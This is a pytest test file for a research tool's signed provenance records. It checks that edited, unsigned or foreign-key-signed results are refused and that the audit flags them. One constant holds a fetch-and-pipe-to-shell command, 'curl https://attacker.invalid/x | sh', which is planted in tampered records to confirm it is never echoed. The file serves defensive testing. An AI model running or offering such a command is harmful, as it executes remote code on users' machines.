"""Records cannot be forged without the key: every field of a provenance record, a sidecar and
a ``cache_key.json`` is signed (Ed25519, the key outside the results tree), and every reader
and ``sharpness audit`` report an unsigned, unknown-key or mismatching record as such
(docs/security.md, "Signed records")."""

from __future__ import annotations

import json
import stat
from pathlib import Path

import pytest

from sharpness.cli import main
from sharpness.io import atomic_write_json, read_json
from sharpness.runs.audit import audit_report
from sharpness.runs.cache import KEY_FILE, cache_key, claim_dir
from sharpness.runs.provenance import write_artifact_provenance
from sharpness.runs.seal import UnverifiedResult, damage, read_verified, seal
from sharpness.runs.signing import (
    KEY_ENV,
    TRUST_ENV,
    SigningKeyRefused,
    key_path,
    own_public_key,
    sign,
)

EVIL = ["bash", "-c", "curl https://attacker.invalid/x | sh"]


@pytest.fixture
def keys(tmp_path, monkeypatch):
    """This test's own signing key, in a temporary folder (never the developer's)."""
    path = tmp_path / "keys" / "signing_key"
    monkeypatch.setenv(KEY_ENV, str(path))
    monkeypatch.delenv(TRUST_ENV, raising=False)
    return path


def _signed_elsewhere(record: dict, tmp_path: Path, monkeypatch) -> dict:
    """``record`` signed with another machine's key (made for the purpose), then this
    test's key back in place."""
    own = key_path()
    monkeypatch.setenv(KEY_ENV, str(tmp_path / "elsewhere" / "signing_key"))
    sign(record)
    monkeypatch.setenv(KEY_ENV, str(own))
    return record


def _finished_run(folder: Path) -> Path:
    claim_dir(folder, cache_key("train", {"lr": 0.1}, ["sharpness.runs.cache"]), stale=(),
              what="run")
    atomic_write_json(folder / "final.json", {"final_test_acc": 0.41})
    seal(folder, "final.json")
    return folder


def test_a_result_edited_with_its_hash_rewritten_in_cache_key_is_refused(
        tmp_path, keys, monkeypatch):
    """The attack: `final.json` edited (0.41 -> 0.97) and its hash in `cache_key.json`
    rewritten. The key's signature no longer matches; stripping it leaves it unsigned;
    re-signing it with another key leaves it signed by a key not trusted here."""
    run = _finished_run(tmp_path / "run")
    assert read_verified(run / "final.json") == {"final_test_acc": 0.41}
    atomic_write_json(run / "final.json", {"final_test_acc": 0.97})
    from sharpness.runs.provenance import file_sha256

    key = read_json(run / KEY_FILE)
    key["files"]["final.json"] = file_sha256(run / "final.json")
    atomic_write_json(run / KEY_FILE, key)
    with pytest.raises(UnverifiedResult, match="SIGNATURE MISMATCH"):
        read_verified(run / "final.json")
    assert "SIGNATURE MISMATCH" in damage(run, "final.json", require=False)
    del key["signature"]
    atomic_write_json(run / KEY_FILE, key)
    with pytest.raises(UnverifiedResult, match="UNSIGNED"):
        read_verified(run / "final.json")
    atomic_write_json(run / KEY_FILE, _signed_elsewhere(key, tmp_path, monkeypatch))
    with pytest.raises(UnverifiedResult, match="UNKNOWN KEY"):
        read_verified(run / "final.json")
    # a forged key is never reused as a cache either: the run is computed again
    assert not claim_dir(run, cache_key("train", {"lr": 0.1}, ["sharpness.runs.cache"]),
                         stale=("final.json",), what="run")
    assert not (run / "final.json").exists()


@pytest.mark.parametrize("field,value", [
    ("stand_ins", ["nothing stands in for anything"]),
    ("caption", "a caption that says something else"),
    ("command", EVIL),
    ("output_sha256", None),  # the CSV replaced and its hash rewritten
])
def test_any_field_of_a_sidecar_edited_with_its_id_kept_is_refused(tmp_path, keys, field,
                                                                  value, capsys):
    """The attack: `stand_ins`, `caption`, `command` or `output_sha256` of a sidecar
    edited, id kept. The reader refuses the record and the file; the audit flags it; the
    command of the failed record is never echoed."""
    csv = tmp_path / "fig.csv"
    csv.write_text("x,y\n1,2\n")
    record = write_artifact_provenance(csv, kind="figure", caption="the real caption",
                                       stand_ins=["CIFAR-10 JPEG for CIFAR-10"])
    side = tmp_path / "fig.provenance.json"
    edited = read_json(side)
    if field == "output_sha256":
        csv.write_text("x,y\n1,99\n")
        from sharpness.runs.provenance import file_sha256

        edited[field] = {k: file_sha256(csv) for k in edited[field]}
    else:
        edited[field] = value
    edited["command"] = EVIL if field == "command" else edited["command"]
    assert edited["id"] == record["id"]
    side.write_text(json.dumps(edited))
    for path in (side, csv):
        with pytest.raises(UnverifiedResult, match="SIGNATURE MISMATCH") as info:
            read_verified(path)
        assert "curl" not in str(info.value)
    lines, problems = audit_report(side)
    assert any("SIGNATURE MISMATCH" in p for p in problems)
    assert "curl" not in "\n".join(lines + problems)
    assert main(["audit", str(side)]) == 1
    assert "curl" not in capsys.readouterr().out


def test_an_edited_record_carrying_a_command_is_refused_without_echoing_it(tmp_path, keys):
    """The attack: an edited record with `command: bash -c 'curl ... | sh'`; the
    refusal names the file and the workflow command that rebuilds it, never that one."""
    csv = tmp_path / "fig.csv"
    csv.write_text("x\n1\n")
    write_artifact_provenance(csv, kind="figure")
    side = tmp_path / "fig.provenance.json"
    record = read_json(side)
    record.update(command=EVIL, params={"edited": True})
    side.write_text(json.dumps(record))
    for path in (side, csv):
        with pytest.raises(UnverifiedResult) as info:
            read_verified(path)
        assert "curl" not in str(info.value) and "bash" not in str(info.value)
        assert "--forcerun" in str(info.value)


def test_a_colleagues_results_verify_once_their_public_key_is_trusted(tmp_path, keys,
                                                                      monkeypatch):
    """Someone who receives a results folder and its public key can verify it: records
    signed by another key are UNKNOWN KEY until its public key file is listed in
    `SHARPNESS_TRUSTED_KEYS`, then read as any other."""
    colleague = tmp_path / "colleague" / "signing_key"
    monkeypatch.setenv(KEY_ENV, str(colleague))
    run = _finished_run(tmp_path / "run")
    public = tmp_path / "colleague.pub"
    assert main(["key", "--out", str(public)]) == 0
    monkeypatch.setenv(KEY_ENV, str(keys))
    with pytest.raises(UnverifiedResult, match="UNKNOWN KEY"):
        read_verified(run / "final.json")
    monkeypatch.setenv(TRUST_ENV, str(public))
    assert read_verified(run / "final.json") == {"final_test_acc": 0.41}
    assert public.read_text().strip() != own_public_key()


def test_the_key_is_made_on_first_use_private_and_never_under_results(tmp_path, keys,
                                                                      monkeypatch):
    assert not keys.exists()
    public = own_public_key()
    assert keys.is_file() and own_public_key() == public
    assert stat.S_IMODE(keys.stat().st_mode) == 0o600
    assert stat.S_IMODE(keys.parent.stat().st_mode) == 0o700
    monkeypatch.chdir(tmp_path)
    for inside in ("results/keys/k", "figures/k"):
        monkeypatch.setenv(KEY_ENV, str(tmp_path / inside))
        with pytest.raises(SigningKeyRefused, match="inside"):
            key_path()
    monkeypatch.setenv(KEY_ENV, str(tmp_path / "outside" / "k"))
    assert key_path() == tmp_path / "outside" / "k"
